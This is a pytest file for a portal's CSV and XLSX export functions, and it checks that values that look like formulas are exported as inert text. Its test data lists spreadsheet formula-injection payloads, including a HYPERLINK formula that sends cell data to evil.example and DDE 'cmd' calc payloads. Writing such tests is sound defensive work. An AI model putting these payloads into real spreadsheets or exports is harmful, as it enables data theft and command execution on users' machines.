"""Finding 4: a submitted value such as =HYPERLINK(…) is exported as text, never as a formula."""

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from portal.exports import csv_writer, xlsx_append

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_csv_cell_that_starts_like_a_formula_is_quoted_as_text(value):
    out = io.StringIO()
    csv_writer(out).writerow(["TK-2026-000001", value, 42])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["TK-2026-000001", "'" + value, "42"]


def test_plain_text_numbers_and_dates_are_written_as_they_are():
    out = io.StringIO()
    csv_writer(out).writerow(["Nguyễn Văn An", -5, "a.nguyenvan@hust.edu.vn"])
    assert out.getvalue().strip() == "Nguyễn Văn An,-5,a.nguyenvan@hust.edu.vn"


@pytest.mark.parametrize("value", ATTACKS)
def test_an_xlsx_cell_that_starts_like_a_formula_is_stored_as_a_string(value):
    book = Workbook()
    xlsx_append(book.active, ["Câu hỏi", value, 3])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cell = sheet.cell(row=1, column=2)
    # (Some openpyxl versions read a carriage return back as a line feed: still text.)
    assert cell.value in (value, value.replace("\r", "\n"))
    assert cell.data_type == "s"
    assert sheet.cell(row=1, column=3).value == 3
